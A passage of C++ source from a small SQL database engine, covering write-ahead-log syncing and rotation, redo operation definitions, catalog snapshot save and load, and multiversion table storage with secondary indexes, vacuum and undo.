        throw WalError("wal: fsync failed: " +
                       std::string(std::strerror(errno)));
      }
      crashpoint("wal.sync.crash_after");
      fsyncs_.fetch_add(1, std::memory_order_relaxed);
      lk.lock();
      durable_lsn_ = std::max(durable_lsn_, target);
      leader_active_ = false;
      sync_cv_.notify_all();
    } else {
      sync_cv_.wait(lk);
    }
  }
  if (!led) batched_syncs_.fetch_add(1, std::memory_order_relaxed);
}

void WalWriter::sync_all() {
  uint64_t target;
  {
    std::lock_guard lk(append_mu_);
    target = appended_lsn_;
  }
  {
    std::lock_guard slk(sync_mu_);
    if (durable_lsn_ >= target) {
      // Nothing pending, but the caller wants the file itself durable
      // (header writes, truncations) — fsync without the group machinery.
      if (::fsync(fd_) != 0) {
        throw WalError("wal: fsync failed: " +
                       std::string(std::strerror(errno)));
      }
      fsyncs_.fetch_add(1, std::memory_order_relaxed);
      return;
    }
  }
  sync_to(target);
}

void WalWriter::rotate() {
  std::lock_guard alk(append_mu_);
  std::lock_guard slk(sync_mu_);
  crashpoint("wal.rotate.crash_before");
  if (::ftruncate(fd_, 0) != 0) {
    throw WalError("wal: rotate truncate failed: " +
                   std::string(std::strerror(errno)));
  }
  ::lseek(fd_, 0, SEEK_SET);
  // Crash window: the old log is gone and the new header is not yet
  // written. Recovery treats a headerless log as empty, which is correct
  // because rotate() only runs after the checkpoint is durable.
  crashpoint("wal.rotate.crash_mid");
  std::string header{kMagic};
  header += std::to_string(next_lsn_);
  header += '\n';
  write_all(fd_, header.data(), header.size(), "rotate header");
  if (::fsync(fd_) != 0) {
    throw WalError("wal: fsync failed: " + std::string(std::strerror(errno)));
  }
  fsyncs_.fetch_add(1, std::memory_order_relaxed);
  bytes_ = header.size();
  durable_lsn_ = next_lsn_ - 1;
  // A fresh log whose checkpoint captured the full in-memory state heals
  // a writer poisoned by an earlier append failure: nothing on the new
  // log can depend on the record that never made it.
  poisoned_ = false;
  rotations_.fetch_add(1, std::memory_order_relaxed);
  crashpoint("wal.rotate.crash_after");
}

uint64_t WalWriter::next_lsn() const {
  std::lock_guard lk(append_mu_);
  return next_lsn_;
}

uint64_t WalWriter::bytes() const {
  std::lock_guard lk(append_mu_);
  return bytes_;
}

bool WalWriter::poisoned() const {
  std::lock_guard lk(append_mu_);
  return poisoned_;
}

WalWriterStats WalWriter::stats() const {
  WalWriterStats s;
  s.appends = appends_.load(std::memory_order_relaxed);
  s.bytes_appended = bytes_appended_.load(std::memory_order_relaxed);
  s.fsyncs = fsyncs_.load(std::memory_order_relaxed);
  s.sync_calls = sync_calls_.load(std::memory_order_relaxed);
  s.batched_syncs = batched_syncs_.load(std::memory_order_relaxed);
  s.rotations = rotations_.load(std::memory_order_relaxed);
  return s;
}

}  // namespace septic::storage::wal

// Redo operations: the physical row-level vocabulary shared by the
// write-ahead log, the executor's journal capture, and recovery replay.
//
// An op addresses rows by (catalog key, slot). Slots are stable for the
// life of a table and are assigned strictly by append order (Table never
// reuses a hole), so a log of ops replayed in append order against the
// checkpoint state it was generated from reproduces the exact same slot
// assignment — recovery asserts this per insert and treats any mismatch
// as corruption rather than guessing.
//
// Insert images are logged pre-coercion — replay pushes them through the
// same Table::insert() coercion the original execution used, so the two
// paths cannot diverge — with one exception: the primary-key column
// carries the RESOLVED value (auto-increment filled in), because replay
// cannot reproduce reservations burned by rolled-back transactions.
// Update ops log the evaluated (column, value) change list, not the full
// row, matching Table::update()'s contract.
#pragma once

#include <cstdint>
#include <string>
#include <utility>
#include <vector>

#include "sqlcore/value.h"

namespace septic::storage::wal {

struct RedoOp {
  enum class Kind : uint8_t { kInsert, kUpdate, kDelete };

  Kind kind = Kind::kInsert;
  /// Catalog key (lower-cased table name).
  std::string table;
  /// Insert: the slot the row landed in (verified on replay).
  /// Update/delete: the slot addressed.
  size_t slot = 0;
  /// Insert only: full row image (pre-coercion).
  std::vector<sql::Value> row;
  /// Update only: evaluated per-column changes.
  std::vector<std::pair<size_t, sql::Value>> changes;

  static RedoOp insert(std::string table_key, size_t slot,
                       std::vector<sql::Value> row) {
    RedoOp op;
    op.kind = Kind::kInsert;
    op.table = std::move(table_key);
    op.slot = slot;
    op.row = std::move(row);
    return op;
  }
  static RedoOp update(std::string table_key, size_t slot,
                       std::vector<std::pair<size_t, sql::Value>> changes) {
    RedoOp op;
    op.kind = Kind::kUpdate;
    op.table = std::move(table_key);
    op.slot = slot;
    op.changes = std::move(changes);
    return op;
  }
  static RedoOp erase(std::string table_key, size_t slot) {
    RedoOp op;
    op.kind = Kind::kDelete;
    op.table = std::move(table_key);
    op.slot = slot;
    return op;
  }
};

/// The redo ops one statement (or one transaction commit) applied, in
/// apply order. The executor fills one per autocommit write statement;
/// the commit protocol builds one from the write set.
using StatementJournal = std::vector<RedoOp>;

}  // namespace septic::storage::wal

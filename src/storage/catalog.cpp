#include "storage/catalog.h"

#include <fstream>
#include <sstream>

#include "common/string_util.h"

namespace septic::storage {

std::string Catalog::key_of(std::string_view name) {
  return common::to_lower(name);
}

Table& Catalog::create_table(TableSchema schema, bool if_not_exists) {
  std::string key = key_of(schema.name());
  auto it = tables_.find(key);
  if (it != tables_.end()) {
    if (if_not_exists) return *it->second;
    throw StorageError("table '" + schema.name() + "' already exists");
  }
  auto table = std::make_unique<Table>(std::move(schema));
  Table& ref = *table;
  tables_.emplace(std::move(key), std::move(table));
  return ref;
}

void Catalog::drop_table(std::string_view name, bool if_exists) {
  auto it = tables_.find(key_of(name));
  if (it == tables_.end()) {
    if (if_exists) return;
    throw StorageError("unknown table '" + std::string(name) + "'");
  }
  tables_.erase(it);
}

Table* Catalog::find(std::string_view name) {
  auto it = tables_.find(key_of(name));
  return it == tables_.end() ? nullptr : it->second.get();
}

const Table* Catalog::find(std::string_view name) const {
  auto it = tables_.find(key_of(name));
  return it == tables_.end() ? nullptr : it->second.get();
}

Table& Catalog::require(std::string_view name) {
  Table* t = find(name);
  if (t == nullptr) {
    throw StorageError("table '" + std::string(name) + "' doesn't exist");
  }
  return *t;
}

std::vector<std::string> Catalog::table_names() const {
  std::vector<std::string> out;
  out.reserve(tables_.size());
  for (const auto& [key, table] : tables_) out.push_back(table->schema().name());
  return out;
}

namespace {

void append_table_block(std::string& out, const Table& table) {
  {
    const TableSchema& s = table.schema();
    out += "T " + s.name() + "\n";
    for (const auto& c : s.columns()) {
      out += "C " + c.name + " " + column_type_name(c.type) + " ";
      std::string flags;
      if (c.primary_key) flags += 'p';
      if (c.not_null) flags += 'n';
      if (c.auto_increment) flags += 'a';
      if (flags.empty()) flags = "-";
      out += flags;
      if (c.default_value) out += " D " + c.default_value->repr();
      out += "\n";
    }
    out += "A " + std::to_string(table.next_auto_increment()) + "\n";
    table.scan([&](size_t, const Row& row) {
      out += "R ";
      for (size_t i = 0; i < row.size(); ++i) {
        if (i) out += '|';
        out += row[i].repr();
      }
      out += "\n";
      return true;
    });
    for (const auto& [idx_name, idx_col] : table.index_defs()) {
      out += "I " + idx_name + " " + idx_col + "\n";
    }
    out += ".\n";
  }
}

}  // namespace

std::string Catalog::save_snapshot() const {
  std::string out;
  for (const auto& [key, table] : tables_) {
    append_table_block(out, *table);
  }
  return out;
}

std::string Catalog::save_table_snapshot(std::string_view name) const {
  auto it = tables_.find(key_of(name));
  if (it == tables_.end()) {
    throw StorageError("unknown table '" + std::string(name) + "'");
  }
  std::string out;
  append_table_block(out, *it->second);
  return out;
}

void Catalog::restore_table_snapshot(std::string_view data) {
  // Rebuild in a scratch catalog (reusing the full loader), then adopt the
  // rebuilt table(s) over any same-named current ones.
  Catalog scratch;
  scratch.load_snapshot(data);
  for (auto& [key, table] : scratch.tables_) {
    tables_[key] = std::move(table);
  }
}

namespace {

ColumnType parse_column_type(std::string_view s) {
  if (s == "INT") return ColumnType::kInt;
  if (s == "DOUBLE") return ColumnType::kDouble;
  if (s == "TEXT") return ColumnType::kText;
  throw StorageError("snapshot: bad column type '" + std::string(s) + "'");
}

// Split a row line into value reprs. Reprs may contain '|' inside string
// bodies, so split respecting the S<len>: length prefix.
std::vector<std::string> split_row_reprs(std::string_view body) {
  std::vector<std::string> out;
  size_t i = 0;
  while (i < body.size()) {
    if (body[i] == 'S') {
      size_t colon = body.find(':', i);
      if (colon == std::string_view::npos) {
        throw StorageError("snapshot: malformed string repr");
      }
      std::string_view len_s = body.substr(i + 1, colon - i - 1);
      if (!common::all_digits(len_s)) {
        throw StorageError("snapshot: malformed string length");
      }
      size_t len = std::stoull(std::string(len_s));
      size_t end = colon + 1 + len;
      if (end > body.size()) {
        throw StorageError("snapshot: truncated string repr");
      }
      out.emplace_back(body.substr(i, end - i));
      i = end;
    } else {
      size_t bar = body.find('|', i);
      if (bar == std::string_view::npos) bar = body.size();
      out.emplace_back(body.substr(i, bar - i));
      i = bar;
    }
    if (i < body.size()) {
      if (body[i] != '|') throw StorageError("snapshot: expected '|'");
      ++i;
    }
  }
  return out;
}

}  // namespace

void Catalog::load_snapshot(std::string_view data) {
  tables_.clear();
  std::istringstream in{std::string(data)};
  std::string line;
  Table* current = nullptr;
  std::vector<ColumnDef> pending_cols;
  std::string pending_name;
  int64_t pending_auto_inc = 1;
  bool in_table = false;

  auto materialize = [&]() {
    if (!in_table || current != nullptr) return;
    current = &create_table(TableSchema(pending_name, pending_cols));
    current->set_auto_increment(pending_auto_inc);
  };

  while (std::getline(in, line)) {
    if (line.empty()) continue;
    char tag = line[0];
    std::string_view body =
        line.size() > 2 ? std::string_view(line).substr(2) : std::string_view();
    switch (tag) {
      case 'T': {
        if (in_table) throw StorageError("snapshot: nested table");
        pending_name = std::string(body);
        pending_cols.clear();
        pending_auto_inc = 1;
        current = nullptr;
        in_table = true;
        break;
      }
      case 'C': {
        if (!in_table || current != nullptr) {
          throw StorageError("snapshot: stray column line");
        }
        auto parts = common::split(std::string(body), ' ');
        if (parts.size() < 3) throw StorageError("snapshot: bad column line");
        ColumnDef def;
        def.name = parts[0];
        def.type = parse_column_type(parts[1]);
        for (char f : parts[2]) {
          if (f == 'p') def.primary_key = true;
          if (f == 'n') def.not_null = true;
          if (f == 'a') def.auto_increment = true;
        }
        if (parts.size() >= 5 && parts[3] == "D") {
          // Default value repr may itself contain spaces; rejoin.
          std::string repr = parts[4];
          for (size_t i = 5; i < parts.size(); ++i) repr += " " + parts[i];
          sql::Value v;
          if (!sql::Value::from_repr(repr, v)) {
            throw StorageError("snapshot: bad default repr");
          }
          def.default_value = v;
        }
        pending_cols.push_back(std::move(def));
        break;
      }
      case 'A': {
        if (!in_table) throw StorageError("snapshot: stray A line");
        pending_auto_inc = std::stoll(std::string(body));
        break;
      }
      case 'R': {
        if (!in_table) throw StorageError("snapshot: stray row line");
        materialize();
        auto reprs = split_row_reprs(body);
        Row row;
        row.reserve(reprs.size());
        for (const auto& r : reprs) {
          sql::Value v;
          if (!sql::Value::from_repr(r, v)) {
            throw StorageError("snapshot: bad value repr '" + r + "'");
          }
          row.push_back(std::move(v));
        }
        int64_t saved_auto_inc = current->next_auto_increment();
        current->insert(std::move(row));
        // insert() may bump auto_inc past the saved value; keep the max.
        if (current->next_auto_increment() < saved_auto_inc) {
          current->set_auto_increment(saved_auto_inc);
        }
        break;
      }
      case 'I': {
        if (!in_table) throw StorageError("snapshot: stray index line");
        materialize();
        auto parts = common::split(std::string(body), ' ');
        if (parts.size() != 2) throw StorageError("snapshot: bad index line");
        current->create_index(parts[0], parts[1]);
        break;
      }
      case '.': {
        if (!in_table) throw StorageError("snapshot: stray terminator");
        materialize();
        current = nullptr;
        in_table = false;
        break;
      }
      default:
        throw StorageError("snapshot: unknown line tag '" +
                           std::string(1, tag) + "'");
    }
  }
  if (in_table) throw StorageError("snapshot: unterminated table block");
}

void Catalog::save_to_file(const std::string& path) const {
  std::ofstream out(path, std::ios::trunc);
  if (!out) throw StorageError("cannot open '" + path + "' for writing");
  out << save_snapshot();
  if (!out) throw StorageError("write failed for '" + path + "'");
}

void Catalog::load_from_file(const std::string& path) {
  std::ifstream in(path);
  if (!in) throw StorageError("cannot open '" + path + "'");
  std::stringstream buf;
  buf << in.rdbuf();
  load_snapshot(buf.str());
}

}  // namespace septic::storage

#include "storage/table.h"

#include <cassert>
#include <mutex>
#include <tuple>

#include "common/string_util.h"

namespace septic::storage {

Table::Table(TableSchema schema) : schema_(std::move(schema)) {}

std::string Table::pk_key(const sql::Value& v) const { return v.repr(); }

bool Table::IndexKeyLess::operator()(const sql::Value& a,
                                     const sql::Value& b) const {
  const bool an = a.is_null();
  const bool bn = b.is_null();
  if (an || bn) return an && !bn;  // NULL sorts before every value
  if (a.type() == sql::ValueType::kString &&
      b.type() == sql::ValueType::kString) {
    // Keys are stored pre-folded (index_key_value), so raw byte order is
    // the case-insensitive order eval's comparisons use.
    return a.as_string() < b.as_string();
  }
  return a.compare(b) < 0;
}

sql::Value Table::index_key_value(size_t column, const sql::Value& v) const {
  // Keys must agree with eval's comparison semantics: TEXT compares
  // ASCII-case-insensitively, so text keys are folded before storing.
  if (schema_.column(column).type == ColumnType::kText && !v.is_null()) {
    return sql::Value(common::to_lower(v.coerce_string()));
  }
  return v;
}

bool Table::index_key_eq(const sql::Value& a, const sql::Value& b) {
  IndexKeyLess less;
  return !less(a, b) && !less(b, a);
}

void Table::index_add_entry(SecondaryIndex& idx, const sql::Value& key,
                            size_t slot) {
  auto [begin, end] = idx.map.equal_range(key);
  for (auto it = begin; it != end; ++it) {
    if (it->second == slot) return;  // (key, slot) pairs are unique
  }
  if (begin == end) ++idx.distinct_keys;
  idx.map.emplace_hint(end, key, slot);
}

void Table::index_remove_entry(SecondaryIndex& idx, const sql::Value& key,
                               size_t slot) {
  auto [begin, end] = idx.map.equal_range(key);
  size_t bucket = 0;
  auto hit = end;
  for (auto it = begin; it != end; ++it) {
    ++bucket;
    if (it->second == slot) hit = it;
  }
  if (hit == end) return;
  idx.map.erase(hit);
  if (bucket == 1) --idx.distinct_keys;
}

bool Table::slot_refs_key_locked(size_t slot, size_t column,
                                 const sql::Value& key) const {
  if (live_[slot] &&
      index_key_eq(index_key_value(column, rows_[slot][column]), key)) {
    return true;
  }
  auto it = old_versions_.find(slot);
  if (it == old_versions_.end()) return false;
  for (const auto& v : it->second) {
    if (index_key_eq(index_key_value(column, v.row[column]), key)) return true;
  }
  return false;
}

void Table::index_insert(size_t slot, const Row& row) {
  for (auto& idx : indexes_) {
    index_add_entry(idx, index_key_value(idx.column, row[idx.column]), slot);
  }
}

void Table::index_erase_unreferenced(size_t slot, const Row& row) {
  for (auto& idx : indexes_) {
    sql::Value key = index_key_value(idx.column, row[idx.column]);
    if (!slot_refs_key_locked(slot, idx.column, key)) {
      index_remove_entry(idx, key, slot);
    }
  }
}

void Table::check_not_null(const Row& row) const {
  for (size_t i = 0; i < schema_.column_count(); ++i) {
    if (schema_.column(i).not_null && row[i].is_null()) {
      throw StorageError("column '" + schema_.column(i).name +
                         "' cannot be NULL");
    }
  }
}

Table::InsertResult Table::insert_locked(Row row, uint64_t begin_ts) {
  if (row.size() != schema_.column_count()) {
    throw StorageError("column count mismatch for table '" + schema_.name() +
                       "'");
  }
  for (size_t i = 0; i < row.size(); ++i) {
    row[i] = schema_.coerce_to_column(i, row[i]);
  }
  int pk = schema_.primary_key_index();
  sql::Value pk_value;
  if (pk >= 0) {
    auto pi = static_cast<size_t>(pk);
    if (row[pi].is_null() && schema_.column(pi).auto_increment) {
      row[pi] = sql::Value(auto_inc_);
    }
    if (row[pi].is_null()) {
      throw StorageError("primary key cannot be NULL");
    }
    if (pk_index_.count(pk_key(row[pi])) > 0) {
      throw StorageError("duplicate primary key " + row[pi].to_display() +
                         " in table '" + schema_.name() + "'");
    }
    pk_value = row[pi];
    if (schema_.column(pi).type == ColumnType::kInt) {
      int64_t v = row[pi].coerce_int();
      if (v >= auto_inc_) auto_inc_ = v + 1;
    }
  }
  check_not_null(row);
  size_t slot = rows_.size();
  if (pk >= 0) pk_index_[pk_key(row[static_cast<size_t>(pk)])] = slot;
  index_insert(slot, row);
  rows_.push_back(std::move(row));
  live_.push_back(true);
  begin_ts_.push_back(begin_ts);
  live_count_.fetch_add(1, std::memory_order_relaxed);
  return {slot, pk_value};
}

Table::InsertResult Table::insert(Row row) {
  return insert_locked(std::move(row), 0);
}

Table::InsertResult Table::insert_versioned(Row row, uint64_t begin_ts) {
  std::unique_lock lock(mu_);
  return insert_locked(std::move(row), begin_ts);
}

void Table::scan(const std::function<bool(size_t, const Row&)>& fn) const {
  for (size_t i = 0; i < rows_.size(); ++i) {
    if (!live_[i]) continue;
    if (!fn(i, rows_[i])) return;
  }
}

const Row& Table::row(size_t slot) const {
  assert(slot < rows_.size() && live_[slot]);
  return rows_[slot];
}

void Table::update_locked(
    size_t slot, const std::vector<std::pair<size_t, sql::Value>>& changes,
    bool record_old, uint64_t ts) {
  assert(slot < rows_.size() && live_[slot]);
  Row candidate = rows_[slot];
  int pk = schema_.primary_key_index();
  for (const auto& [col, value] : changes) {
    candidate[col] = schema_.coerce_to_column(col, value);
  }
  check_not_null(candidate);
  if (pk >= 0) {
    auto pi = static_cast<size_t>(pk);
    const std::string old_key = pk_key(rows_[slot][pi]);
    const std::string new_key = pk_key(candidate[pi]);
    if (old_key != new_key) {
      if (auto it = pk_index_.find(new_key);
          it != pk_index_.end() && it->second != slot) {
        throw StorageError("duplicate primary key on update in '" +
                           schema_.name() + "'");
      }
      pk_index_.erase(old_key);
      pk_index_[new_key] = slot;
    }
  }
  // Capture per-index old keys before the current image is replaced; the
  // new image is indexed first, then each old key is dropped only if no
  // surviving version (the chained image, on the versioned plane) still
  // carries it.
  std::vector<sql::Value> old_keys;
  old_keys.reserve(indexes_.size());
  for (const auto& idx : indexes_) {
    old_keys.push_back(index_key_value(idx.column, rows_[slot][idx.column]));
  }
  if (record_old) {
    old_versions_[slot].push_back({std::move(rows_[slot]), begin_ts_[slot], ts});
    old_version_count_.fetch_add(1, std::memory_order_release);
    if (ts > max_old_end_ts_) max_old_end_ts_ = ts;
    begin_ts_[slot] = ts;
  }
  rows_[slot] = std::move(candidate);
  for (size_t i = 0; i < indexes_.size(); ++i) {
    auto& idx = indexes_[i];
    sql::Value new_key = index_key_value(idx.column, rows_[slot][idx.column]);
    if (index_key_eq(old_keys[i], new_key)) continue;
    index_add_entry(idx, new_key, slot);
    if (!slot_refs_key_locked(slot, idx.column, old_keys[i])) {
      index_remove_entry(idx, old_keys[i], slot);
    }
  }
}

void Table::update(size_t slot,
                   const std::vector<std::pair<size_t, sql::Value>>& changes) {
  update_locked(slot, changes, /*record_old=*/false, 0);
}

void Table::update_versioned(
    size_t slot, const std::vector<std::pair<size_t, sql::Value>>& changes,
    uint64_t ts) {
  std::unique_lock lock(mu_);
  update_locked(slot, changes, /*record_old=*/true, ts);
}

void Table::erase(size_t slot) {
  assert(slot < rows_.size() && live_[slot]);
  int pk = schema_.primary_key_index();
  if (pk >= 0) pk_index_.erase(pk_key(rows_[slot][static_cast<size_t>(pk)]));
  Row old = std::move(rows_[slot]);
  live_[slot] = false;
  rows_[slot].clear();
  live_count_.fetch_sub(1, std::memory_order_relaxed);
  index_erase_unreferenced(slot, old);
}

void Table::erase_versioned(size_t slot, uint64_t ts) {
  std::unique_lock lock(mu_);
  assert(slot < rows_.size() && live_[slot]);
  int pk = schema_.primary_key_index();
  if (pk >= 0) pk_index_.erase(pk_key(rows_[slot][static_cast<size_t>(pk)]));
  // The final image joins the chain, so its index entries stay put: the
  // covering invariant keeps older snapshots reading it through indexes.
  // (The PK hash is current-images-only by design — it doubles as the
  // duplicate-key check, which must not see dead keys.)
  old_versions_[slot].push_back({std::move(rows_[slot]), begin_ts_[slot], ts});
  old_version_count_.fetch_add(1, std::memory_order_release);
  if (ts > max_old_end_ts_) max_old_end_ts_ = ts;
  live_[slot] = false;
  rows_[slot].clear();
  live_count_.fetch_sub(1, std::memory_order_relaxed);
}

const Row* Table::visible_locked(size_t slot, uint64_t snapshot_ts) const {
  if (live_[slot] && begin_ts_[slot] <= snapshot_ts) return &rows_[slot];
  auto it = old_versions_.find(slot);
  if (it == old_versions_.end()) return nullptr;
  // Newest old image first: the chain is append-ordered by commit.
  for (auto v = it->second.rbegin(); v != it->second.rend(); ++v) {
    if (v->begin_ts <= snapshot_ts && snapshot_ts < v->end_ts) return &v->row;
  }
  return nullptr;
}

void Table::scan_snapshot(
    uint64_t snapshot_ts,
    const std::function<bool(size_t, const Row&)>& fn) const {
  std::shared_lock lock(mu_);
  for (size_t i = 0; i < rows_.size(); ++i) {
    if (const Row* r = visible_locked(i, snapshot_ts)) {
      if (!fn(i, *r)) return;
    }
  }
}

std::optional<Row> Table::fetch_snapshot(size_t slot,
                                         uint64_t snapshot_ts) const {
  std::shared_lock lock(mu_);
  if (slot >= rows_.size()) return std::nullopt;
  if (const Row* r = visible_locked(slot, snapshot_ts)) return *r;
  return std::nullopt;
}

std::optional<std::vector<std::pair<size_t, Row>>> Table::index_eq_snapshot(
    std::string_view column, const sql::Value& key,
    uint64_t snapshot_ts) const {
  std::shared_lock lock(mu_);
  std::vector<std::pair<size_t, Row>> out;
  int col = schema_.column_index(column);
  if (col < 0) return out;
  auto pi = static_cast<size_t>(col);
  sql::Value probe = schema_.coerce_to_column(pi, key);
  const bool is_pk = schema_.primary_key_index() == col;
  // The PK hash covers current images only, so it answers iff the
  // snapshot can see no superseded image: every old version has
  // end_ts <= max_old_end_ts_ and is invisible to any snapshot >= its
  // end. When it qualifies, prefer it — O(1) beats the ordered probe.
  if (is_pk && snapshot_ts >= max_old_end_ts_) {
    auto it = pk_index_.find(pk_key(probe));
    if (it != pk_index_.end() && it->second < rows_.size() &&
        live_[it->second] && begin_ts_[it->second] <= snapshot_ts) {
      out.emplace_back(it->second, rows_[it->second]);
    }
    return out;
  }
  // Secondary indexes are covering at any snapshot: entries span every
  // version of a slot, so probe, then re-check visibility and the visible
  // image's key per hit (a hit through a chained key whose visible image
  // no longer carries it is skipped).
  for (const auto& idx : indexes_) {
    if (idx.column != pi) continue;
    sql::Value k = index_key_value(pi, probe);
    auto [begin, end] = idx.map.equal_range(k);
    for (auto it = begin; it != end; ++it) {
      const Row* r = visible_locked(it->second, snapshot_ts);
      if (r != nullptr && index_key_eq(index_key_value(pi, (*r)[pi]), k)) {
        out.emplace_back(it->second, *r);
      }
    }
    return out;
  }
  // A pure PK probe into history the hash cannot see: caller must scan.
  if (is_pk) return std::nullopt;
  return out;
}

void Table::index_range_snapshot(
    std::string_view column, const std::optional<sql::Value>& lo,
    bool lo_inclusive, const std::optional<sql::Value>& hi, bool hi_inclusive,
    bool desc, bool include_nulls, uint64_t snapshot_ts,
    const std::function<bool(size_t, const Row&)>& fn) const {
  std::shared_lock lock(mu_);
  int col = schema_.column_index(column);
  if (col < 0) return;
  auto pi = static_cast<size_t>(col);
  const SecondaryIndex* idx = nullptr;
  for (const auto& i : indexes_) {
    if (i.column == pi) {
      idx = &i;
      break;
    }
  }
  if (idx == nullptr) return;
  std::optional<sql::Value> lo_key;
  std::optional<sql::Value> hi_key;
  if (lo) lo_key = index_key_value(pi, schema_.coerce_to_column(pi, *lo));
  if (hi) hi_key = index_key_value(pi, schema_.coerce_to_column(pi, *hi));
  IndexKeyLess less;
  // Per-hit emit: the slot's visible image must actually carry the
  // entry's key (covering-index re-check, same as index_eq_snapshot).
  auto emit = [&](const sql::Value& entry_key, size_t slot) {
    const Row* r = visible_locked(slot, snapshot_ts);
    if (r == nullptr) return true;
    if (!index_key_eq(index_key_value(pi, (*r)[pi]), entry_key)) return true;
    return fn(slot, *r);
  };
  if (!desc) {
    auto it = lo_key ? (lo_inclusive ? idx->map.lower_bound(*lo_key)
                                     : idx->map.upper_bound(*lo_key))
             : include_nulls
                 ? idx->map.begin()
                 : idx->map.upper_bound(sql::Value());  // NULLs sort first
    for (; it != idx->map.end(); ++it) {
      // Checking the high bound per entry (instead of a precomputed end
      // iterator) keeps crossed bounds safely empty.
      if (hi_key && (hi_inclusive ? less(*hi_key, it->first)
                                  : !less(it->first, *hi_key))) {
        break;
      }
      if (!emit(it->first, it->second)) return;
    }
    return;
  }
  auto stop = hi_key ? (hi_inclusive ? idx->map.upper_bound(*hi_key)
                                     : idx->map.lower_bound(*hi_key))
                     : idx->map.end();
  for (auto rit = std::make_reverse_iterator(stop); rit != idx->map.rend();
       ++rit) {
    if (lo_key && (lo_inclusive ? less(rit->first, *lo_key)
                                : !less(*lo_key, rit->first))) {
      break;
    }
    if (!lo_key && !include_nulls && rit->first.is_null()) break;
    if (!emit(rit->first, rit->second)) return;
  }
}

std::optional<Table::IndexInfo> Table::secondary_index_on(
    std::string_view column) const {
  std::shared_lock lock(mu_);
  int col = schema_.column_index(column);
  if (col < 0) return std::nullopt;
  for (const auto& idx : indexes_) {
    if (idx.column == static_cast<size_t>(col)) {
      return IndexInfo{idx.name, idx.map.size(), idx.distinct_keys};
    }
  }
  return std::nullopt;
}

bool Table::slot_live(size_t slot) const {
  std::shared_lock lock(mu_);
  return slot < rows_.size() && live_[slot];
}

uint64_t Table::slot_begin_ts(size_t slot) const {
  std::shared_lock lock(mu_);
  assert(slot < rows_.size() && live_[slot]);
  return begin_ts_[slot];
}

int64_t Table::reserve_auto_increment() {
  std::unique_lock lock(mu_);
  return auto_inc_++;
}

void Table::maybe_advance_auto_increment(int64_t v) {
  std::unique_lock lock(mu_);
  if (v >= auto_inc_) auto_inc_ = v + 1;
}

size_t Table::vacuum(uint64_t horizon) {
  std::unique_lock lock(mu_);
  size_t freed = 0;
  // (index #, key, slot) owned by freed versions; their entries drop
  // after the prune unless a surviving version still references the key.
  std::vector<std::tuple<size_t, sql::Value, size_t>> dead_keys;
  for (auto it = old_versions_.begin(); it != old_versions_.end();) {
    auto& chain = it->second;
    size_t kept = 0;
    for (size_t i = 0; i < chain.size(); ++i) {
      if (chain[i].end_ts <= horizon) {
        ++freed;
        for (size_t ix = 0; ix < indexes_.size(); ++ix) {
          dead_keys.emplace_back(
              ix,
              index_key_value(indexes_[ix].column,
                              chain[i].row[indexes_[ix].column]),
              it->first);
        }
      } else {
        if (kept != i) chain[kept] = std::move(chain[i]);
        ++kept;
      }
    }
    chain.resize(kept);
    it = chain.empty() ? old_versions_.erase(it) : std::next(it);
  }
  for (const auto& [ix, key, slot] : dead_keys) {
    if (!slot_refs_key_locked(slot, indexes_[ix].column, key)) {
      index_remove_entry(indexes_[ix], key, slot);
    }
  }
  if (freed != 0) old_version_count_.fetch_sub(freed, std::memory_order_release);
  return freed;
}

void Table::undo_insert(size_t slot) {
  std::unique_lock lock(mu_);
  assert(slot < rows_.size() && live_[slot]);
  int pk = schema_.primary_key_index();
  if (pk >= 0) pk_index_.erase(pk_key(rows_[slot][static_cast<size_t>(pk)]));
  Row old = std::move(rows_[slot]);
  live_[slot] = false;
  rows_[slot].clear();
  live_count_.fetch_sub(1, std::memory_order_relaxed);
  index_erase_unreferenced(slot, old);
}

void Table::undo_update(size_t slot) {
  std::unique_lock lock(mu_);
  assert(slot < rows_.size() && live_[slot]);
  auto it = old_versions_.find(slot);
  assert(it != old_versions_.end() && !it->second.empty());
  OldVersion prev = std::move(it->second.back());
  it->second.pop_back();
  if (it->second.empty()) old_versions_.erase(it);
  old_version_count_.fetch_sub(1, std::memory_order_release);
  int pk = schema_.primary_key_index();
  if (pk >= 0) {
    auto pi = static_cast<size_t>(pk);
    pk_index_.erase(pk_key(rows_[slot][pi]));
    pk_index_[pk_key(prev.row[pi])] = slot;
  }
  Row undone = std::move(rows_[slot]);
  rows_[slot] = std::move(prev.row);
  begin_ts_[slot] = prev.begin_ts;
  // The restored image's entries still exist (the chain referenced them);
  // re-adding is an idempotent no-op. The undone image's keys drop unless
  // an older chained version also carries them.
  index_insert(slot, rows_[slot]);
  index_erase_unreferenced(slot, undone);
}

void Table::undo_erase(size_t slot) {
  std::unique_lock lock(mu_);
  assert(slot < rows_.size() && !live_[slot]);
  auto it = old_versions_.find(slot);
  assert(it != old_versions_.end() && !it->second.empty());
  OldVersion prev = std::move(it->second.back());
  it->second.pop_back();
  if (it->second.empty()) old_versions_.erase(it);
  old_version_count_.fetch_sub(1, std::memory_order_release);
  int pk = schema_.primary_key_index();
  if (pk >= 0) {
    pk_index_[pk_key(prev.row[static_cast<size_t>(pk)])] = slot;
  }
  index_insert(slot, prev.row);
  rows_[slot] = std::move(prev.row);
  begin_ts_[slot] = prev.begin_ts;
  live_[slot] = true;
  live_count_.fetch_add(1, std::memory_order_relaxed);
}

void Table::pad_slots(size_t slot_count) {
  while (rows_.size() < slot_count) {
    rows_.emplace_back();
    live_.push_back(false);
    begin_ts_.push_back(0);
  }
}

void Table::load_row_at_slot(size_t slot, Row row) {
  if (slot < rows_.size()) {
    throw StorageError("checkpoint: slots out of order in table '" +
                       schema_.name() + "'");
  }
  if (row.size() != schema_.column_count()) {
    throw StorageError("checkpoint: column count mismatch for table '" +
                       schema_.name() + "'");
  }
  pad_slots(slot);
  int pk = schema_.primary_key_index();
  if (pk >= 0) {
    auto pi = static_cast<size_t>(pk);
    if (row[pi].is_null()) {
      throw StorageError("checkpoint: NULL primary key in table '" +
                         schema_.name() + "'");
    }
    if (!pk_index_.emplace(pk_key(row[pi]), slot).second) {
      throw StorageError("checkpoint: duplicate primary key in table '" +
                         schema_.name() + "'");
    }
  }
  index_insert(slot, row);
  rows_.push_back(std::move(row));
  live_.push_back(true);
  begin_ts_.push_back(0);
  live_count_.fetch_add(1, std::memory_order_relaxed);
}

void Table::create_index(const std::string& index_name,
                         const std::string& column) {
  // DDL callers hold the engine's exclusive catalog lock, but snapshot
  // readers of *other* statements never take that — self-lock so the
  // build and the indexes_ push are atomic against them.
  std::unique_lock lock(mu_);
  for (const auto& idx : indexes_) {
    if (idx.name == index_name) {
